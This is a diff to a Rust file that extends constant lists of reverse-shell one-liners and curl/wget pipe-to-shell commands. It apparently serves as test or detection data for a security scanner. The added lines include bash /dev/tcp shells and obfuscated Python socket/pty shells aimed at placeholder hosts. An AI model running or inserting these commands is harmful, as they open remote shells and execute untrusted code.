@@ -24,6 +24,8 @@ pub const REVERSE_SHELLS: &[&str] = &[
     "sh -i 5<> /dev/tcp/10.0.0.1/4444 0<&5 1>&5 2>&5",
     "bash -i 5<> /dev/tcp/10.0.0.1/4444 0<&5 1>&5 2>&5",
     "zsh -c 'zmodload zsh/net/tcp && ztcp 10.0.0.1 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
+    "bash -i >& /dev/tcp/$RHOST/$RPORT 0>&1",
+    "sh -i >& /dev/tcp/${RHOST}/${RPORT} 0>&1",
     // named pipes
     "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
     "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/bash -i 2>&1|nc -u 10.0.0.1 4444 >/tmp/f",
@@ -62,6 +64,8 @@ pub const REVERSE_SHELLS: &[&str] = &[
     r#"python3 -c 'import socket,subprocess;s=socket.create_connection(("10.0.0.1",4444));subprocess.Popen(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno()).wait()'"#,
     r#"python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET6,socket.SOCK_STREAM);s.connect(("dead:beef::1",4444,0,2));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn("/bin/sh")'"#,
     r#"python.exe -c "import socket,os,threading,subprocess as sp;p=sp.Popen(['cmd.exe'],stdin=sp.PIPE,stdout=sp.PIPE,stderr=sp.STDOUT);s=socket.socket();s.connect(('10.0.0.1',4444));threading.Thread(target=lambda:[s.send(os.read(p.stdout.fileno(),1024)) for _ in iter(int,1)],daemon=True).start()""#,
+    r#"python3 -c 'a=__import__;s=a("socket").socket;o=a("os").dup2;p=a("pty").spawn;c=s();c.connect(("10.0.0.1",4444));f=c.fileno;o(f(),0);o(f(),1);o(f(),2);p("/bin/sh")'"#,
+    r#"python -c '__import__("os").dup2;s=__import__("socket").socket();s.connect(("10.0.0.1",4444));[__import__("os").dup2(s.fileno(),i) for i in range(3)];__import__("pty").spawn("sh")'"#,
     // perl
     r#"perl -e 'use Socket;$i="10.0.0.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("sh -i");};'"#,
     r#"perl -e 'use Socket;$i="10.0.0.1";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/bash -i");};'"#,
@@ -117,6 +121,8 @@ pub const PIPE_TO_SHELL: &[&str] = &[
     "curl https://x.example/i.sh | /bin/bash",
     "curl -fsSL https://x.example/i.sh | zsh",
     "curl -s https://x.example/i | sudo env FOO=1 bash",
+    "curl -s https://x.example/i.sh | sudo -u root bash",
+    "curl -s https://x.example/i.sh | tee /tmp/i.sh | sh",
     "wget -qO- https://x.example/install.sh | bash",
     "wget -O - https://x.example/install.sh | sh",
     "wget -q -O - https://x.example/i | sudo sh -s -- --yes",
